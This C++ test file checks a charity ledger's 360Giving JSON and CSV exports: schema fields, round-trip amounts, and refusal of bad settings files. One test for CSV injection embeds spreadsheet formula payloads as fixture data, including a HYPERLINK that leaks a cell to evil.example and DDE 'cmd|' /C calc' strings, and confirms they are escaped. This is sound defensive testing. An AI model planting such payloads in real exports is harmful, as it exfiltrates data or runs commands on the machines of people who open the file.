// `ledgerctl export` and GET /api/v1/export/360giving.json over the demo
// ledger: every grant carries the fields the 360Giving schema requires
// (tests/standards/360giving.test.mjs validates the same export against the
// schema files themselves), and the exported figures equal the ledger's own
// grant views (round trip); the settings file decides what the ledger does
// not record, and a missing or wrong one is refused naming what is wrong.
#include <gtest/gtest.h>

#include <cmath>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>

#include "ledger/funds/fund_views.h"
#include "ledger/funds/state_machine.h"
#include "ledger/tlog/data_dir.h"
#include "tests/testing/ledgerd_process.h"
#include "tests/tools/tools_fixture.h"

namespace ledger {
namespace {

using nlohmann::json;
using testing::Ledgerctl;

// Required members of a grant in the 360Giving schema
// (ThreeSixtyGiving/standard 1.4, schema/360-giving-schema.json: "oneOf" two
// "required" lists, one with recipientOrganization, one with
// recipientIndividual; $defs/Organization and $defs/Person require id and
// name; fundingOrganization "minItems": 1).
const char* kRequired[] = {"id", "title", "description", "currency", "amountAwarded", "awardDate",
                           "fundingOrganization"};

bool HasIdAndName(const json& o) {
  return o.is_object() && o.contains("id") && o["id"].is_string() && o.contains("name") && o["name"].is_string() &&
         !o["id"].get<std::string>().empty() && !o["name"].get<std::string>().empty();
}

// Returns what is wrong with `g` as a 360Giving grant, or "".
std::string SchemaProblem(const json& g) {
  for (const char* k : kRequired) {
    if (!g.contains(k)) return std::string("missing ") + k;
  }
  for (const char* k : {"id", "title", "description", "currency", "awardDate"}) {
    if (!g[k].is_string()) return std::string(k) + " is not a string";
  }
  if (g["currency"] != "CNY") return "currency is not CNY";
  if (!g["amountAwarded"].is_number()) return "amountAwarded is not a number";
  if (g.contains("amountDisbursed") && !g["amountDisbursed"].is_number()) return "amountDisbursed is not a number";
  static const std::regex date("^[0-9]{4}-(0[1-9]|1[012])-(0[1-9]|[12][0-9]|3[01])$");
  if (!std::regex_match(g["awardDate"].get<std::string>(), date)) return "awardDate is not YYYY-MM-DD";
  if (g.contains("recipientOrganization") == g.contains("recipientIndividual")) {
    return "not exactly one of recipientOrganization and recipientIndividual";
  }
  if (g.contains("recipientIndividual") && !HasIdAndName(g["recipientIndividual"])) {
    return "recipientIndividual lacks a string id and name";
  }
  for (const char* k : {"recipientOrganization", "fundingOrganization"}) {
    if (!g.contains(k)) continue;
    if (!g[k].is_array() || g[k].empty()) return std::string(k) + " is not a non-empty array";
    for (const json& o : g[k]) {
      if (!HasIdAndName(o)) return std::string(k) + " lacks a string id and name";
    }
  }
  return "";
}

// The settings `ledgerctl demo` wrote.
json DemoSettings(const std::string& dir) { return json::parse(testing::ReadFile(dir + "/360giving.json")); }

void WriteFile(const std::string& path, const std::string& text) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out << text;
}

// 360Giving amounts are in yuan (a JSON number); the ledger's are in fen.
int64_t Fen(const json& yuan) { return std::llround(yuan.get<double>() * 100); }

std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, row_has = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') field += '"', ++i;
      else if (c == '"') quoted = false;
      else field += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field), field.clear();
    } else if (c == '\n') {
      if (!field.empty() && field.back() == '\r') field.pop_back();
      rows.back().push_back(field), field.clear();
      rows.emplace_back();
    } else {
      field += c;
      row_has = true;
    }
  }
  (void)row_has;
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

class ExportTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new testing::TempDir("export");
    testing::InitDemo(dir_->path);
  }
  static void TearDownTestSuite() { delete dir_; }

  // The ledger's own grant views: GrantSummary per live grant id.
  static std::map<std::string, json> LedgerGrants() {
    funds::FundsStateMachine sm;
    tlog::Options o;
    o.path = tlog::DataDir{dir_->path}.db();
    o.read_only = true;
    o.state_machine = &sm;
    auto log = tlog::Log::Open(o);
    EXPECT_TRUE(log.ok()) << log.status().ToString();
    std::map<std::string, json> out;
    if (!log.ok()) return out;
    auto grants = funds::GrantsJson(sm.View(), "");
    EXPECT_TRUE(grants.ok());
    for (const json& g : (*grants)["grants"]) {
      if (!g.value("corrected", false)) out[g["id"].get<std::string>()] = g;
    }
    (*log)->Close();
    return out;
  }
  static testing::TempDir* dir_;
};
testing::TempDir* ExportTest::dir_;

TEST_F(ExportTest, JsonGrantsMeetThe360GivingSchemaAndEqualTheLedger) {
  const std::string out = dir_->path + "/grants.json";
  auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "360giving", "--out", out});
  ASSERT_EQ(r.code, 0) << r.out;
  const std::string text = testing::ReadFile(out);
  json doc = json::parse(text);
  ASSERT_TRUE(doc["grants"].is_array());
  EXPECT_EQ(doc["version"], "1.4");
  EXPECT_EQ(doc["license"], "https://creativecommons.org/licenses/by/4.0/");
  const std::string prefix = DemoSettings(dir_->path)["prefix"];
  auto ledger = LedgerGrants();
  ASSERT_GT(ledger.size(), 100u);
  EXPECT_EQ(doc["grants"].size(), ledger.size());
  std::set<std::string> ids;
  size_t individuals = 0;
  for (const json& g : doc["grants"]) {
    ASSERT_EQ(SchemaProblem(g), "") << g.dump();
    EXPECT_TRUE(ids.insert(g["id"].get<std::string>()).second) << "duplicate id " << g["id"];
    // The funder is the organisation of the profile; the demo's records no USCC.
    EXPECT_EQ(g["fundingOrganization"][0]["name"], "示例区慈善总会");
    EXPECT_EQ(g["fundingOrganization"][0]["id"], prefix);
    const std::string gid = g["id"].get<std::string>();
    ASSERT_EQ(gid.rfind(prefix + "-", 0), 0u) << gid;
    const std::string id = gid.substr(prefix.size() + 1);
    ASSERT_TRUE(ledger.count(id)) << id;
    const json& v = ledger[id];
    EXPECT_EQ(g["ledgerIndex"]["amountAwardedFen"], v["amount"]) << id;
    EXPECT_EQ(g["ledgerIndex"]["amountDisbursedFen"], v["paid"]) << id;
    EXPECT_EQ(Fen(g["amountAwarded"]), v["amount"].get<int64_t>()) << id;
    EXPECT_EQ(Fen(g["amountDisbursed"]), v["paid"].get<int64_t>()) << id;
    EXPECT_EQ(g["ledgerIndex"]["amountUsedFen"], v["used"]) << id;
    EXPECT_EQ(g["title"], v["title"]);
    EXPECT_EQ(g["awardDate"], v["award_date"]);
    const std::string rid = v["recipient"]["id"];
    if (g.contains("recipientIndividual")) {
      ++individuals;
      EXPECT_EQ(g["recipientIndividual"], json({{"id", prefix + "-IND-" + rid}, {"name", "Individual Recipient"}}));
      EXPECT_EQ(g.dump().find(v["recipient"]["name"].get<std::string>()), std::string::npos) << g.dump();
    } else {
      EXPECT_EQ(g["recipientOrganization"][0]["id"], prefix + "-ORG-" + rid);
      EXPECT_EQ(g["recipientOrganization"][0]["name"], v["recipient"]["name"]);
    }
    EXPECT_TRUE(g["ledgerIndex"]["seq"].is_number_unsigned());
  }
  EXPECT_EQ(individuals, 880u + 211u + 64u + 204u);
  // Amounts in the text: yuan with exactly two decimals.
  static const std::regex amount("\"(amountAwarded|amountDisbursed|value)\": (-?[0-9][0-9.eE+-]*)");
  size_t n = 0;
  for (auto it = std::sregex_iterator(text.begin(), text.end(), amount); it != std::sregex_iterator(); ++it, ++n) {
    EXPECT_TRUE(std::regex_match((*it)[2].str(), std::regex("[0-9]+\\.[0-9]{2}"))) << (*it)[0];
  }
  EXPECT_GT(n, 2 * ledger.size());
}

TEST_F(ExportTest, CsvFiguresEqualTheLedger) {
  auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "csv"});
  ASSERT_EQ(r.code, 0) << r.out;
  auto rows = ParseCsv(r.out);
  ASSERT_GT(rows.size(), 1u);
  const auto& h = rows[0];
  auto col = [&](const std::string& name) {
    auto it = std::find(h.begin(), h.end(), name);
    EXPECT_NE(it, h.end()) << name;
    return static_cast<size_t>(it - h.begin());
  };
  const size_t id = col("Identifier"), awarded = col("Amount Awarded"), paid = col("Amount Disbursed"),
               cur = col("Currency"), ind = col("Recipient Ind:Identifier"), org = col("Recipient Org:Identifier"),
               reason = col("To Individuals Details:Primary Grant Reason");
  const std::string prefix = DemoSettings(dir_->path)["prefix"];
  auto ledger = LedgerGrants();
  EXPECT_EQ(rows.size() - 1, ledger.size());
  for (size_t i = 1; i < rows.size(); ++i) {
    ASSERT_EQ(rows[i].size(), h.size()) << "row " << i;
    const std::string gid = rows[i][id].substr(prefix.size() + 1);
    ASSERT_TRUE(ledger.count(gid)) << gid;
    auto yuan = [](int64_t fen) {
      char b[64];
      snprintf(b, sizeof b, "%lld.%02lld", (long long)(fen / 100), (long long)(fen % 100));
      return std::string(b);
    };
    EXPECT_EQ(rows[i][awarded], yuan(ledger[gid]["amount"].get<int64_t>())) << gid;
    EXPECT_EQ(rows[i][paid], yuan(ledger[gid]["paid"].get<int64_t>())) << gid;
    EXPECT_EQ(rows[i][cur], "CNY");
    // Exactly one recipient kind; individuals carry a reason code.
    EXPECT_NE(rows[i][ind].empty(), rows[i][org].empty()) << gid;
    EXPECT_EQ(rows[i][ind].empty(), rows[i][reason].empty()) << gid;
  }
}

TEST_F(ExportTest, LedgerdServesTheSameExportWhileTheCliReadsAlongside) {
  testing::LedgerdProcess server(dir_->path);
  ASSERT_TRUE(server.Start());
  auto res = server.Client().Get("/api/v1/export/360giving.json");
  ASSERT_TRUE(res);
  ASSERT_EQ(res->status, 200) << res->body;
  json served = json::parse(res->body);
  // The CLI opens the store read-only next to the running ledgerd.
  auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "360giving"});
  ASSERT_EQ(r.code, 0) << r.out;
  EXPECT_EQ(served, json::parse(r.out));
  for (const json& g : served["grants"]) ASSERT_EQ(SchemaProblem(g), "") << g.dump();
}

// Without settings there is no export, and bad settings are refused naming
// the member; ledgerd does not start with a bad --360giving file.
TEST_F(ExportTest, MissingOrWrongSettingsAreRefusedNamingWhatIsWrong) {
  testing::TempDir tmp("export-settings");
  auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "360giving", "--360giving", tmp.path + "/none.json"});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.out.find("none.json"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("360G- prefix"), std::string::npos) << r.out;

  json bad = DemoSettings(dir_->path);
  bad["individuals"][1]["primary_reason"] = "GTIR999";
  const std::string file = tmp.path + "/bad.json";
  WriteFile(file, bad.dump());
  r = Ledgerctl({"export", "--data", dir_->path, "--format", "csv", "--360giving", file});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.out.find("individuals[1].primary_reason"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("GTIR999"), std::string::npos) << r.out;

  int code = -1;
  testing::RunCommand({testing::BinDir() + "/ledgerd", "--data", dir_->path, "--listen",
                       "127.0.0.1:" + std::to_string(testing::FreePort()), "--360giving", file},
                      &code);
  EXPECT_EQ(code, 2);

  // A rule for a fund the ledger does not have is refused at export time.
  json unknown = DemoSettings(dir_->path);
  unknown["individuals"][0]["fund"] = "no-such-fund";
  WriteFile(file, unknown.dump());
  r = Ledgerctl({"export", "--data", dir_->path, "--format", "360giving", "--360giving", file});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.out.find("no-such-fund"), std::string::npos) << r.out;
}

// What a spreadsheet would evaluate: a cell whose first character other than
// a space is = + - @ TAB or CR, unless it is a plain decimal number.
bool LooksLikeFormula(const std::string& cell) {
  static const std::regex number("^-?[0-9]+(\\.[0-9]+)?$");
  size_t i = cell.find_first_not_of(' ');
  if (i == std::string::npos) return false;
  if (std::string("=+-@\t\r").find(cell[i]) == std::string::npos) return false;
  return !std::regex_match(cell, number);
}

// Grant and fund text that a spreadsheet would run as a formula comes out of
// `ledgerctl export --format csv` as text (issue 16: CSV injection).
TEST(ExportCsvTest, FormulaLookingCellsAreWrittenAsText) {
  testing::TempDir dir("export-csv");
  auto init = Ledgerctl({"init", "--data", dir.path, "--origin", "test.example/csv"});
  ASSERT_EQ(init.code, 0) << init.out;
  auto admin = Ledgerctl({"token", "--data", dir.path, "--role", "admin", "--name", "admin-1"});
  auto rec = Ledgerctl({"token", "--data", dir.path, "--role", "recorder", "--name", "rec-1"});
  ASSERT_EQ(admin.code, 0);
  ASSERT_EQ(rec.code, 0);
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"详情\")";
  {
    testing::LedgerdProcess server(dir.path);
    ASSERT_TRUE(server.Start());
    auto post = [&](const std::string& token, const json& req) {
      auto r =
          server.Client().Post("/api/v1/entries", {{"Authorization", "Bearer " + testing::FirstLine(token)}},
                               req.dump(), "application/json");
      ASSERT_TRUE(r);
      ASSERT_EQ(r->status, 201) << req.dump() << " -> " << r->body;
    };
    post(admin.out, {{"type", "org.profile"},
                     {"body",
                      {{"name", {{"zh", "=1+1"}, {"en", "+SUM(1)"}}},
                       {"legal_type", "social_group"},
                       {"effective_from", "2015-01-01"}}}});
    post(admin.out, {{"type", "fund.open"},
                     {"body",
                      {{"id", "f1"},
                       {"name", {{"zh", "@SUM(A1:A9)"}, {"en", "-1+1"}}},
                       {"purpose", "p"},
                       {"kind", "charity"}, {"opened_on", "2015-01-01"}}}});
    post(
        rec.out,
        {{"type", "donation"},
         {"body", {{"fund", "f1"}, {"amount", 100000}, {"channel", "bank"}, {"received_at", "2020-03-01"}}}});
    post(rec.out, {{"type", "grant"},
                   {"body",
                    {{"id", "g1"},
                     {"fund", "f1"},
                     {"recipient", {{"id", "org-a"}, {"name", "+cmd|' /C calc'!A0"}}},
                     {"title", hyperlink},
                     {"amount", 50050},
                     {"award_date", "2020-04-01"},
                     {"programme", "-2+3+cmd|' /C calc'!A0"}}}});
  }
  WriteFile(dir.path + "/360giving.json",
            json{{"prefix", "360G-csv-test"}, {"license", "https://creativecommons.org/licenses/by/4.0/"}}.dump());
  const std::string out = dir.path + "/grants.csv";
  auto r = Ledgerctl({"export", "--data", dir.path, "--format", "csv", "--out", out});
  ASSERT_EQ(r.code, 0) << r.out;
  const std::string text = testing::ReadFile(out);
  auto rows = ParseCsv(text);
  ASSERT_EQ(rows.size(), 2u) << text;
  const auto& h = rows[0];
  auto col = [&](const std::string& name) {
    auto it = std::find(h.begin(), h.end(), name);
    EXPECT_NE(it, h.end()) << name;
    return static_cast<size_t>(it - h.begin());
  };
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), h.size()) << text;
    for (const auto& cell : row) EXPECT_FALSE(LooksLikeFormula(cell)) << cell << "\n" << text;
  }
  const auto& g = rows[1];
  // The text is kept whole behind one apostrophe (docs/format.md section 11).
  EXPECT_EQ(g[col("Title")], "'" + hyperlink);
  EXPECT_EQ(g[col("Recipient Org:Name")], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(g[col("Grant Programme:Title")], "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(g[col("Funding Org:Department")], "'@SUM(A1:A9)");
  EXPECT_EQ(g[col("Funding Org:Name")], "'=1+1");
  EXPECT_EQ(g[col("Funding Org:Alternate Name")], "'+SUM(1)");
  EXPECT_EQ(g[col("Recipient Org:Identifier")], "360G-csv-test-ORG-org-a");
  // Amounts stay numbers.
  EXPECT_EQ(g[col("Amount Awarded")], "500.50");
  EXPECT_EQ(g[col("Amount Disbursed")], "0.00");
}

TEST_F(ExportTest, UnknownFormatIsAUsageError) {
  auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "xml"});
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.out.find("360giving|csv"), std::string::npos) << r.out;
}

}  // namespace
}  // namespace ledger
